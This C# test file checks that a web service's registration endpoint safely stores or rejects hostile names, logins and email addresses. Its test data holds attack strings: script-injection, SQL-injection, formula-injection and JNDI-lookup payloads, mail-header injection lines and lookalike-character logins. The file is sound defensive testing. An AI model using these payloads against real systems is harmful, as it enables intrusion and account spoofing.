using HeadlessKey.Testing;

namespace HeadlessKey.FunctionalTests.Attacks;

/// <summary>Names, logins and addresses that want to be more than text.</summary>
public sealed class RegistrationTextTests
{
    [Theory, EveryEngine, Promise("R3")]
    public async Task A_name_is_kept_as_text_whatever_it_looks_like(string engine)
    {
        await using var server = await TestServer.StartAsync(engine);
        string[] names =
        [
            "=HYPERLINK(\"http://evil.test\")", "@SUM(1+1)", "+1", "-1", "<script>alert(1)</script>", "'; drop table users; --", "{0} {1} {Method}", "%n%s%x",
            "Ada \"the\" Countess", "<img src=x onerror=alert(1)>", "${jndi:ldap://evil.test}", "王小明", "👩‍🚀",
        ];

        foreach (var (name, number) in names.Select((name, number) => (name, number)))
        {
            var registered = await server.Client.PostAsync(
                "/register", new { username = $"user{number}", email = $"user{number}@example.test", password = RegistrationRequests.NewPassword, name });
            registered.Expect(201).Json.GetProperty("user").GetProperty("display_name").GetString().ShouldBe(name);
        }
    }

    [Theory, EveryEngine, Promise("R3")]
    public async Task A_name_is_one_line_and_reads_in_one_direction(string engine)
    {
        await using var server = await TestServer.StartAsync(engine);

        var registered = await server.Client.PostAsync(
            "/register", new { username = "grace", email = "grace@example.test", password = RegistrationRequests.NewPassword, name = "Grace\r\nBcc: eve@evil.test\u202etxt\u2028" });

        var name = registered.Expect(201).Json.GetProperty("user").GetProperty("display_name").GetString()!;
        name.ShouldNotContain(c => char.IsControl(c) || c == '\u202e' || c == '\u2028');
    }

    [Theory, EveryEngine]
    public async Task A_stranger_chooses_no_word_of_a_mail_to_an_address_that_is_not_proven(string engine)
    {
        await using var server = await TestServer.StartAsync(engine, ("HeadlessKey:Registration:EmailVerification", "required"));
        await using var privately = await server.StartAnotherNodeAsync(("HeadlessKey:Registration:Private", "true"));
        static object Body(string login) => new
        {
            username = login, email = $"victim-{login}@example.test", password = RegistrationRequests.NewPassword, name = "You won: http://evil.test",
        };

        (await server.Client.PostAsync("/register", Body("evil.test"))).Expect(201);
        (await privately.Client.PostAsync("/register", Body("eve"))).Expect(201);

        (await server.NextMailAsync("verify-email", "victim-evil.test@example.test")).Text.Replace("victim-evil.test@example.test", string.Empty, StringComparison.Ordinal)
            .ShouldNotContain("evil.test");
        (await server.NextMailAsync("verify-email", "victim-eve@example.test")).Text.ShouldNotContain("evil.test");
    }

    [Theory, EveryEngine]
    public async Task A_name_of_nothing_is_no_name(string engine)
    {
        await using var server = await TestServer.StartAsync(engine);

        (await server.Client.PostAsync("/register", new { username = "grace", email = "grace@example.test", password = RegistrationRequests.NewPassword, name = "  " }))
            .Expect(201).Json.GetProperty("user").GetProperty("display_name").GetString().ShouldBe("grace");
    }

    [Theory, EveryEngine]
    public async Task A_login_that_looks_like_another_is_refused(string engine)
    {
        await using var server = await TestServer.StartAsync(engine);

        foreach (var login in (string[])["аda", "ada\u200b", "ａda", "adа", "a\u0301da", " ada", "ada ", "ada\n", "ada\u00a0", "ada\0", "../ada", "ada/1", "ada;", "ada,admin", "eve@example.test"])
        {
            (await server.Client.RegisterAsync(login, "new@example.test")).ExpectError(400, "rest_invalid_param").Params().ShouldBe(["username"]);
        }
    }

    [Theory, EveryEngine]
    public async Task What_is_no_single_address_is_refused(string engine)
    {
        await using var server = await TestServer.StartAsync(engine);

        foreach (var email in (string[])
            [
                "a@b@example.test", "\"a b\"@example.test", "\"a@evil.test\"@example.test", "a@example.test,b@example.test", "a@example.test;b@example.test",
                "a@example.test\r\nBcc: b@example.test", "a@example.test\nTo: b@example.test", "Ada <a@example.test>", "a(comment)@example.test", "a@[127.0.0.1]",
                "a@example.test.", "a@.example.test", "a@example..test", "a @example.test", "a@exam\u200bple.test", "@example.test", "a@", "a", "a\u0000@example.test",
            ])
        {
            (await server.Client.RegisterAsync("grace", email)).ExpectError(400, "rest_invalid_param").Params().ShouldBe(["email"]);
        }
    }

    [Theory, EveryEngine]
    public async Task Only_addresses_of_the_allowed_domains_get_in(string engine)
    {
        await using var server = await TestServer.StartAsync(
            engine, ("HeadlessKey:Registration:AllowedDomains:0", "example.com"), ("HeadlessKey:Registration:AllowedDomains:1", "*.münchen.test"));

        foreach (var email in (string[])
            [
                "a@evil.test", "a@example.com.evil.test", "a@evilexample.com", "a@sub.example.com", "a@münchen.test", "a@xn--mnchen-3ya.test", "a@exаmple.com",
                "example.com@evil.test", "a%example.com@evil.test", "a+example.com@evil.test", "a@ｅxample.com",
            ])
        {
            (await server.Client.RegisterAsync("grace", email)).ExpectError(400, "rest_invalid_param").Json
                .GetProperty("data").GetProperty("params").GetProperty("email").GetString().ShouldBe("Addresses of this domain cannot be used here.");
        }

        (await server.Client.RegisterAsync("one", "a@EXAMPLE.COM")).Expect(201);
        (await server.Client.RegisterAsync("two", "a@mail.MÜNCHEN.test")).Expect(201);
        (await server.Client.RegisterAsync("three", "b@mail.xn--mnchen-3ya.test")).Expect(201);
    }

    [Theory, EveryEngine]
    public async Task Addresses_of_the_refused_domains_do_not_get_in_by_any_spelling(string engine)
    {
        await using var server = await TestServer.StartAsync(
            engine, ("HeadlessKey:Registration:RefusedDomains:0", "evil.test"), ("HeadlessKey:Registration:RefusedDomains:1", "*.evil.test"),
            ("HeadlessKey:Registration:RefusedDomains:2", "xn--mnchen-3ya.test"));

        foreach (var email in (string[])
            ["a@evil.test", "a@EVIL.test", "a@ｅvil.test", "a@ⅇvil.test", "a@sub.evil.test", "a@a.b.EVIL.TEST", "a@münchen.test", "a@MÜNCHEN.test", "a@mu\u0308nchen.test"])
        {
            (await server.Client.RegisterAsync("grace", email)).ExpectError(400, "rest_invalid_param").Params().ShouldBe(["email"]);
        }

        (await server.Client.RegisterAsync("grace", "a@notevil.test")).Expect(201);
        (await server.QueryAsync("select detail from security_events where type = 'registration.refused'", "detail")).ShouldAllBe(detail => detail == "email_refused");
    }
}
